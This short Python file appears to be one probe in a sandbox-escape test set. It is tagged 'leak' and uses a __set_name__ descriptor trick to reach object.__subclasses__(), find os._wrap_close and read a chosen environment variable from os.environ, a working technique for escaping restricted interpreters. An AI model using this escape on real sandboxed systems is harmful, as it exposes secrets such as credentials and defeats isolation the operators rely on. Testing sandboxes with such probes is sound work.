# effect: leak
class Hook:
    def __set_name__(self, owner, name):
        owner.found = owner.__base__.__subclasses__()


def attempt(probe):
    class Holder:
        hook = Hook()

    for cls in Holder.found:
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__["environ"][probe["env"]]
